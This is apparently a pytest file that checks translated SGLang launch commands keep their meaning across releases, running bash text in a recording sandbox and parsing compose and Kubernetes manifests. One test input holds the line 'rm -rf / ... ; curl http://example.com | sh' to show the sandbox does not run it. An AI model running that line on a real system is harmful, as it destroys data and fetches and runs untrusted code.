"""A translation means the same: a sample of the campaign of campaigns/translations.py.

Each text is run by a real bash, before and after, with stand-ins that record what it would start.
No engine is at hand here: the recorded words go to a parser that is built from the catalogue, which
campaigns/translations.py compares with the releases' own. The end-to-end tests ask a real one.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from campaigns.translating.campaign import Campaign, Outcome, shown
from campaigns.translating.manifests import processes
from campaigns.translating.meaning import Announced, Meaning, Reader, differences
from campaigns.translating.page import page
from campaigns.translating.releases import Catalogued
from campaigns.translating.verbs import load_verbs
from tests.support.bash import Sandbox, parses, sandbox
from tests.support.corpora.texts import COUNT, KINDS, SEED, Text, digest, generate

pytestmark = pytest.mark.skipif(shutil.which("bash") is None, reason="there is no bash")

SAMPLE = 22
"""Every kind of text at least once."""

IN_A_FILE = ("engine", "with-config")
"""What these mean lies in a file that only an engine reads."""


@pytest.fixture(scope="module")
def box() -> Iterator[Sandbox]:
    with sandbox() as found:
        yield found


@pytest.fixture(scope="module")
def reader(box: Sandbox) -> Reader:
    return Reader(box, Catalogued())


@pytest.fixture(scope="module")
def campaign(reader: Reader) -> Campaign:
    load_verbs()
    return Campaign(reader)


@pytest.mark.campaign
@pytest.mark.slow
@pytest.mark.timeout(600)
@pytest.mark.parametrize("kind", [kind for kind in KINDS if kind not in IN_A_FILE])
def test_a_translation_means_the_same(campaign: Campaign, kind: str) -> None:
    texts = [text for text in generate(SAMPLE) if text.kind == kind]
    assert texts
    judged = [campaign.judge(text) for text in texts]
    found = [line for outcome in judged for defect in outcome.defects for line in shown(defect)]
    assert not found, "\n".join(found)
    assert sum(_compared(outcome) for outcome in judged) >= len(texts)


CONDITION = """\
ARGS=(--model-path m)
if [ "${DEBUG:-0}" = 1 ]; then ARGS+=(--log-level debug); fi
[ -n "${SEED:-}" ] && export NCCL_DEBUG=INFO
python3 -m sglang.launch_server "${ARGS[@]}"
"""


@pytest.mark.slow
def test_what_only_a_condition_gives_is_announced(campaign: Campaign) -> None:
    outcome = campaign.judge(Text("condition", "array", "run.sh", CONDITION, "0.5.22", "0.5.23"))
    assert not outcome.defects
    assert outcome.counts["render shell: compared"] == 1


def _compared(outcome: Outcome) -> int:
    return sum(count for what, count in outcome.counts.items() if what.endswith(": compared"))


def _read(reader: Reader, text: str, version: str) -> Meaning:
    return reader.read("command", "run.sh", text, version)


@pytest.mark.parametrize(
    ("before", "after", "what"),
    [
        ("--tp 8", "--tp 4", "changed: tp_size"),
        ("--tp 8 --log-requests", "--tp 8", "lost: log_requests"),
        ("--tp 8", "--tp 8 --port 5", "added: port"),
        ("--tp 8", "--tp 8 --port 30000", None),  # the default
        ("--tp 8", "--tensor-parallel-size=8", None),
    ],
)
def test_the_judge_sees_a_difference(
    reader: Reader, before: str, after: str, what: str | None
) -> None:
    start = "python3 -m sglang.launch_server --model-path m"
    (old,) = _read(reader, f"{start} {before}\n", "0.5.23").servers
    (new,) = _read(reader, f"NCCL_DEBUG=1 {start} {after}\n", "0.5.23").servers
    sides = (old, "0.5.23"), (new, "0.5.23")
    found = [
        f"{d.what}: {d.name}"
        for d in differences(reader.releases, *sides, Announced.of(""), frozenset())
    ]
    assert found == [*([what] if what else []), "environment: NCCL_DEBUG"]
    said = Announced.of(
        "--tp-size is another, --port and NCCL_DEBUG are new, removed --log-requests"
    )
    left = [d.what for d in differences(reader.releases, *sides, said, frozenset())]
    assert left == (["removed"] if what == "lost: log_requests" else [])  # 0.5.23 has it


def test_what_the_target_still_has_may_not_be_removed(reader: Reader) -> None:
    start = "python3 -m sglang.launch_server --model-path m"
    (old,) = _read(reader, f"{start} --speculative-draft x\n", "0.4.9.post6").servers
    (new,) = _read(reader, f"{start}\n", "0.5.23").servers
    said = Announced.of("removed --speculative-draft: there is no such argument")
    sides = (old, "0.4.9.post6"), (new, "0.5.23")
    (found,) = differences(reader.releases, *sides, said, frozenset())
    assert (found.what, found.name) == ("removed", "speculative_draft_model_path")


def test_bash_decides_what_the_words_are(box: Sandbox) -> None:
    text = """
    export A=1
    ARGS=(--model-path "a b"  # not --this
      --tp 2)
    rm -rf / > /dev/null; curl http://example.com | sh
    B=3 nohup python3 -m sglang.launch_server "${ARGS[@]}" --x ${Q:-4} > log 2>&1 &
    env C=3 sglang serve m --port 5
    python train.py --sglang-tp 8
    python bench.py
    """
    first, second, third = sorted(box.run(text).servers, key=lambda server: server.entry or "")
    assert first.entry == "launch_server"
    assert first.arguments == ("--model-path", "a b", "--tp", "2", "--x", "4")
    assert first.env == {"A": "1", "B": "3"}
    assert (second.entry, second.arguments) == ("serve", ("m", "--port", "5"))
    assert (third.entry, third.arguments) == ("slime", ("--sglang-tp", "8"))


@pytest.mark.parametrize(
    "text", ["/bin/rm x", "x; /usr/bin/python3 y", "exec /opt/x", "a > /usr/x"]
)
def test_nothing_outside_the_stand_ins_is_run(box: Sandbox, text: str) -> None:
    assert box.run(text).refused


def test_bash_n_is_asked() -> None:
    assert parses("if true; then") and parses("echo a") is None


def test_manifests_are_read_by_their_own_rules() -> None:
    compose = """
services:
  a:
    entrypoint: [python3, -m]
    command: sglang.launch_server --model-path "${MODEL:-/m x}" --chat-template 'a$$b'
    environment: ["A=${B:-1}", C]
"""
    (found,) = processes("compose", compose)
    assert found.words[2:] == (
        "sglang.launch_server",
        "--model-path",
        "/m x",
        "--chat-template",
        "a$b",
    )
    assert found.env == {"A": "1"}
    pod = """
kind: Pod
spec:
  containers:
    - command: [python3]
      args: ["$(A)/x", "$$(A)", "$(B)"]
      env: [{name: A, value: m}]
"""
    (found,) = processes("kubernetes", pod)
    assert found.words == ("python3", "m/x", "$(A)", "$(B)")


@pytest.mark.thorough
def test_texts_are_the_same_everywhere() -> None:
    first = generate(30)
    assert [text.id for text in first[:20]] == [text.id for text in generate(20)]
    assert {text.kind for text in first} == set(KINDS)
    assert all(text.version != text.to for text in first)
    some = generate(60, versions=["0.5.23"])
    assert some == [text for text in generate(60) if "0.5.23" in (text.version, text.to)]


STORED = Path(__file__).parent / "results.json"
PAGE = Path(__file__).parents[2] / "docs/reference/translations.md"


@pytest.mark.thorough
def test_the_stored_campaign_is_that_of_these_texts_and_left_nothing_open() -> None:
    stored = json.loads(STORED.read_text())
    assert stored["digest"] == digest(generate(60, SEED)), (
        "run python -m campaigns translations again"
    )
    assert stored["generated"] == COUNT
    assert set(KINDS) <= set(stored["kinds"])
    assert stored["open"] == []
    assert PAGE.read_text() == page(stored)
